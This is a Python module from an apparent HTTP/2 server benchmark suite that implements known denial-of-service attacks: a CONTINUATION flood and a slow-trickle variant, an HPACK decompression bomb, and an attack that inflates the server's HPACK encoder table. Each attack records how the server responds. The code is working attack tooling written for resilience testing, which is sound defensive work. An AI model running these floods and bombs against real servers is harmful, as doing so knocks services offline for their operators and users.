"""Header blocks that never end, decode to too much, or fill the server's HPACK table.

* **CONTINUATION flood**, CVE-2024-27316 (and its 2024 siblings): a HEADERS
  without END_HEADERS, then CONTINUATION frames without end (RFC 9113 §6.10).
  The server can do nothing with a header block until it is whole, so one
  that buffers the fragments has no bound but its memory; the slow variant
  sends one byte every 0.5 s, holding the connection with almost no traffic.
* **HPACK bomb** (the "compression bomb" of the 2016 reports, CVE-2016-6581
  for h2 itself): one ~4 kB entry added to the decoder's dynamic table, then
  referenced by a one-byte index again and again (RFC 7541 §6.1). Each byte
  decodes to 4 kB, far beyond SETTINGS_MAX_HEADER_LIST_SIZE (§6.5.2).
* **HPACK encoder table**: SETTINGS_HEADER_TABLE_SIZE = 2^32-1 allows the
  server's *encoder* a table of any size (RFC 7541 §4.2), then responses
  whose header values are new each time. gethy's default application lets a
  client choose one response header value: ``content-length``, through
  ``/bytes/N``; so N GETs of ``/bytes/0`` .. ``/bytes/N-1``. The attacker's
  decoder follows the server's encoder, so the table's growth is measured.
"""

from __future__ import annotations

import time
from functools import partial

from benchmarks.attacks.attacker import Attacker
from benchmarks.attacks.describe import answers, ending
from benchmarks.attacks.model import Context, Outcome
from benchmarks.attacks.wire import (
    CONTINUATION,
    HEADER_TABLE_SIZE,
    HEADERS,
    OPEN_WINDOWS,
    FrameScanner,
    encode_frame,
    headers_frame,
    hpack_string,
    request_block,
    settings_frame,
    split_block,
)

__all__ = ["continuation_flood", "continuation_slow", "hpack_bomb", "hpack_table"]

#: Each CONTINUATION of the flood carries one whole (never indexed) field of this size.
FRAGMENT = b"\x10" + hpack_string(b"x-c") + hpack_string(b"c" * 1000)
TRICKLE = 0.5  # seconds between the slow variant's one-byte frames
BOMB_VALUE = b"a" * 4000  # with the name and 32 bytes of overhead, one 4,038-byte entry
BATCH = 50  # hpack_table: requests in flight at once (the server allows 100)


def continuation_flood(ctx: Context) -> Outcome:
    """HEADERS (no END_HEADERS), then `ctx.size` CONTINUATION frames of 1 kB each."""
    attacker = Attacker(ctx)
    try:
        attacker.handshake()
        start = headers_frame(1, request_block(), end_stream=True, end_headers=False)
        frame = encode_frame(CONTINUATION, 0, 1, FRAGMENT)
        attacker.send(start)
        written = attacker.pour(frame * ctx.size, seconds=ctx.seconds)
        attacker.wait_quiet(ctx, attacker.time_left(ctx))
        frames = written // len(frame)
        text = ending(attacker, frames, "CONTINUATION frames sent")
        text = text or f"all {frames:,} CONTINUATION frames taken; nothing"
        stopped = frames < ctx.size and (attacker.scanner.goaway is not None or attacker.closed)
        return Outcome(text, frames, stopped=stopped, details={"fragment_bytes": len(FRAGMENT)})
    finally:
        attacker.close()


def continuation_slow(ctx: Context) -> Outcome:
    """HEADERS (no END_HEADERS), then a one-byte CONTINUATION every 0.5 s, for `ctx.seconds`."""
    attacker = Attacker(ctx)
    try:
        attacker.handshake()
        attacker.send(headers_frame(1, request_block(), end_stream=True, end_headers=False))
        sent = 0
        deadline = time.monotonic() + ctx.seconds
        while time.monotonic() < deadline and not attacker.closed:
            if not attacker.send(encode_frame(CONTINUATION, 0, 1, b"\x00")):
                break
            sent += 1
            attacker.read_until(None, min(TRICKLE, deadline - time.monotonic()))
        text = ending(attacker, sent, "CONTINUATION frames")
        if not text:
            text = f"still open after {attacker.open_for:.1f} s ({sent} one-byte CONTINUATIONs)"
        held = attacker.open_for if attacker.closed else None
        return Outcome(text, sent, stopped=attacker.closed, held=held)
    finally:
        attacker.close()


def bomb_block(references: int) -> bytes:
    """A request's fields, one 4 kB field added to the table (§6.2.1), then `references`
    one-byte references to it (index 62, the first dynamic entry, §6.1)."""
    added = b"\x40" + hpack_string(b"x-bomb") + hpack_string(BOMB_VALUE)
    return request_block() + added + b"\xbe" * references


def hpack_bomb(ctx: Context) -> Outcome:
    """One request whose header block (`ctx.size` references) decodes to ~4 kB per byte."""
    block = bomb_block(ctx.size)
    decoded = (ctx.size + 1) * (len(BOMB_VALUE) + len("x-bomb") + 32)
    attacker = Attacker(ctx, statuses=True)
    try:
        attacker.handshake()
        attacker.send(split_block(1, block, end_stream=True))
        scanner = attacker.scanner
        attacker.read_until(lambda: scanner.goaway or scanner.resets or 1 in scanner.ended, 2.0)
        what = f"a {len(block) / 1000:,.0f} kB block that decodes to {decoded / 1e6:,.0f} MB"
        if scanner.goaway is not None:
            text = f"GOAWAY {scanner.goaway.name} for {what}"
        elif scanner.resets:
            text = f"{scanner.reset_summary()} for {what}"
        elif 1 in scanner.statuses:
            text = f"status {scanner.statuses[1]} for {what}"
        else:
            text = ending(attacker, 1, "request") or f"nothing for {what}"
        details = {"block_bytes": len(block), "decodes_to_bytes": decoded}
        return Outcome(text, ctx.size, stopped=True, details=details)
    finally:
        attacker.close()


def hpack_table(ctx: Context) -> Outcome:
    """SETTINGS_HEADER_TABLE_SIZE = 2^32-1, then GET /bytes/i for i < `ctx.size`, 50 at a time."""
    table = 2**32 - 1
    attacker = Attacker(ctx, statuses=True, table_size=table)
    try:
        attacker.handshake(settings_frame((HEADER_TABLE_SIZE, table)) + OPEN_WINDOWS)
        scanner = attacker.scanner
        deadline = time.monotonic() + ctx.seconds
        done = 0
        cpu = [ctx.server_cpu()]  # the server's CPU time after each batch
        while done < ctx.size and time.monotonic() < deadline and not attacker.closed:
            batch = range(done, min(done + BATCH, ctx.size))
            attacker.send(b"".join(_get_bytes(i) for i in batch))
            last = 2 * batch[-1] + 1
            answered = partial(_all_ended, scanner, range(2 * batch[0] + 1, last + 1, 2))
            if not attacker.read_until(answered, max(deadline - time.monotonic(), 0.1)):
                break
            done += len(batch)
            cpu.append(ctx.server_cpu())
        return _table_outcome(attacker, done, cpu)
    finally:
        attacker.close()


def _get_bytes(i: int) -> bytes:
    """GET /bytes/i on stream 2i+1: its answer carries ``content-length: i``."""
    return headers_frame(2 * i + 1, request_block(f"/bytes/{i}"), end_stream=True)


def _all_ended(scanner: FrameScanner, stream_ids: range) -> bool:
    return all(stream_id in scanner.ended for stream_id in stream_ids)


def _growth(cpu: list[float]) -> tuple[float, float]:
    """Server CPU µs per response over the first and the last quarter of the batches."""
    quarter = max((len(cpu) - 1) // 4, 1)
    if len(cpu) < 2 * quarter + 1:
        return 0.0, 0.0
    per = 1e6 / (BATCH * quarter)
    return (cpu[quarter] - cpu[0]) * per, (cpu[-1] - cpu[-1 - quarter]) * per


def _table_outcome(attacker: Attacker, done: int, cpu: list[float]) -> Outcome:
    """The table's size as the attacker's decoder mirrors it, and the cost per response
    early and late: a table searched entry by entry makes the late ones dearer."""
    scanner = attacker.scanner
    assert scanner.decoder is not None
    entries = scanner.decoder.header_table.dynamic_entries
    size = sum(32 + len(name) + len(value) for name, value in entries)
    first, last = _growth(cpu)
    table = f"server's HPACK table {len(entries):,} entries, {size / 1000:,.0f} kB"
    text = ending(attacker, done, "responses") or (
        f"{done:,} responses; {table}; CPU per response {first:,.0f} -> {last:,.0f} µs"
    )
    details = {
        "cpu_us_per_response_first_quarter": round(first),
        "cpu_us_per_response_last_quarter": round(last),
        "responses": done,
        "table_entries": len(entries),
        "table_bytes": size,
        "answers": answers(scanner),
        "headers_frames": scanner.count(HEADERS),
    }
    stopped = scanner.goaway is not None or attacker.closed
    return Outcome(text, done, stopped=stopped, details=details)
